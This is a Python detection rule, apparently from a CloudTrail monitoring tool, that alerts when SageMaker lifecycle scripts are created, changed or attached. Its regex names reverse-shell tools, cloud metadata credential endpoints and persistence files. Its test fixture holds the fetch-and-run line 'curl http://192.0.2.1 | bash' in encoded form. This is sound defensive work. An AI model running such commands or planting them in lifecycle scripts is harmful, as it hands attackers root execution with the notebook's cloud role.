"""SageMaker lifecycle script changed.

A lifecycle configuration is a script that runs as root at every start of a notebook, with the
notebook's role. A caller that can write it has that role, and keeps it.
"""

import base64
import re
from collections.abc import Iterator

from trailwarden import AWS_ITSELF, DEPLOYMENT, Event, Match, Rule, Severity, Tactic, either
from trailwarden.cloudtrail.samples import ACCOUNT, Fields, execution_role, request
from trailwarden.cloudtrail.values import dig, text_of
from trailwarden.examples import Examples, alerts, silent
from trailwarden.services.ec2 import texts

ACTS = {
    "CreateNotebookInstanceLifecycleConfig": "SageMaker lifecycle script created",
    "CreateStudioLifecycleConfig": "SageMaker lifecycle script created",
    "UpdateDomain": "Lifecycle script given to a SageMaker domain",
    "UpdateNotebookInstance": "Lifecycle script given to a SageMaker notebook",
    "UpdateNotebookInstanceLifecycleConfig": "SageMaker lifecycle script changed",
    "UpdateSpace": "Lifecycle script given to a SageMaker space",
    "UpdateUserProfile": "Lifecycle script given to a SageMaker user",
}
NAMES = ("notebookInstanceLifecycleConfigName", "studioLifecycleConfigName", "lifecycleConfigName")
GIVEN = frozenset({"UpdateDomain", "UpdateNotebookInstance", "UpdateSpace", "UpdateUserProfile"})
"""The calls that give a script to something, besides much else that they change."""
SUSPICIOUS = re.compile(
    r"169\.254\.1(?:69\.254|70\.2)|/dev/tcp/|\bnc(?:at)? +-|\bsocat\b|\bcurl\b|\bwget\b"
    r"|aws +configure|aws +sts|bash +-i|base64 +-d|\bnohup\b|authorized_keys|\bcrontab\b"
)
MOST_OF_A_SCRIPT = 20_000


def detect(event: Event) -> Match | None:
    name, title = (
        event.request(*NAMES) or given(event),
        ACTS[event.name],
    )
    if event.name in GIVEN and not name:
        return None
    found = next(filter(None, map(SUSPICIOUS.search, scripts(event))), None)
    if found:
        return Match(f"{name} runs {found.group()}", subject=name, title=title)
    if event.caller in DEPLOYMENT:
        return None
    notebook = event.request("notebookInstanceName", "userProfileName", "spaceName", "domainId")
    label = f"{name} in {notebook}" if notebook else name
    return Match(label, severity=Severity.MEDIUM, subject=name, title=title)


def given(event: Event) -> str:
    """Return the name of a script that settings of Studio refer to by its ARN."""
    arns = texts(event.get("requestParameters"), "lifecycleConfigArn", "lifecycleConfigArns")
    return next(iter(arns), "").rpartition("/")[2]


def scripts(event: Event) -> Iterator[str]:
    """Yield the scripts in the request, decoded."""
    hooks = [
        *event.listed("requestParameters.onStart"),
        *event.listed("requestParameters.onCreate"),
    ]
    contents = [text_of(dig(hook, "content")) for hook in hooks]
    for content in (*contents, event.request("studioLifecycleConfigContent")):
        try:
            yield base64.b64decode(content).decode("utf-8", "replace")[:MOST_OF_A_SCRIPT]
        except ValueError:
            yield content[:MOST_OF_A_SCRIPT]


RULE = Rule(
    __name__,
    __doc__,
    detect,
    events=[
        "sagemaker:CreateNotebookInstanceLifecycleConfig",
        "sagemaker:CreateStudioLifecycleConfig",
        "sagemaker:UpdateDomain",
        "sagemaker:UpdateNotebookInstance",
        "sagemaker:UpdateNotebookInstanceLifecycleConfig",
        "sagemaker:UpdateSpace",
        "sagemaker:UpdateUserProfile",
    ],
    exempt=AWS_ITSELF,
    outcome=either(refused=Severity.LOW),
    severity=Severity.HIGH,
    attack={Tactic.EXECUTION: ["T1059"], Tactic.PERSISTENCE: ["T1546"]},
    response="Read the script. If it does not belong there, stop its notebooks, restore the "
    "script, and revoke the sessions of their roles.",
    false_positives="A data scientist installs packages at the start, and downloads with curl.",
)


def examples() -> Examples:
    update, medium = "sagemaker:UpdateNotebookInstanceLifecycleConfig", Severity.MEDIUM
    high, steal = Severity.HIGH, script("curl http://192.0.2.1 | bash")
    stealing = request(update, **steal)
    yield alerts("it steals", stealing, severity=high, subject="setup", label="setup runs curl")
    hidden = steal["onStart"][0]["content"]
    studio = request(
        "sagemaker:CreateStudioLifecycleConfig",
        studioLifecycleConfigName="studio",
        studioLifecycleConfigAppType="JupyterServer",
        studioLifecycleConfigContent=hidden,
    )
    yield alerts("of Studio", studio, severity=high, subject="studio", label="studio runs curl")
    plain = script("pip install x")
    yield alerts("a plain script", request(update, **plain), severity=medium, subject="setup")
    change = "sagemaker:UpdateNotebookInstance"
    given = request(change, notebookInstanceName="n", lifecycleConfigName="setup")
    yield alerts("given to a notebook", given, severity=medium, label="setup in n")
    arn = f"arn:aws:sagemaker:us-east-1:{ACCOUNT}:studio-lifecycle-config/setup"
    users: Fields = {"jupyterLabAppSettings": {"lifecycleConfigArns": [arn]}}
    domain: Fields = {"domainId": "d-1", "defaultUserSettings": users}
    everyone = request("sagemaker:UpdateDomain", **domain)
    yield alerts("of a domain", everyone, severity=medium, subject="setup", label="setup in d-1")
    one: Fields = {"domainId": "d-1", "userProfileName": "ann", "userSettings": users}
    yield alerts("of a user", request("sagemaker:UpdateUserProfile", **one), label="setup in ann")
    space: Fields = {"domainId": "d-1", "spaceName": "lab", "spaceSettings": users}
    yield alerts("of a space", request("sagemaker:UpdateSpace", **space), label="setup in lab")
    stays = request("sagemaker:UpdateDomain", domainId="d-1", appNetworkAccessType="VpcOnly")
    yield silent("another change of a domain", stays)
    stack = request(update, execution_role(), via="cloudformation", **plain)
    yield silent("a stack's plain script", stack)
    larger = request(change, notebookInstanceName="n", instanceType="ml.m5.large")
    yield silent("a larger notebook", larger)


def script(text: str) -> Fields:
    encoded = base64.b64encode(text.encode()).decode()
    return {"notebookInstanceLifecycleConfigName": "setup", "onStart": [{"content": encoded}]}
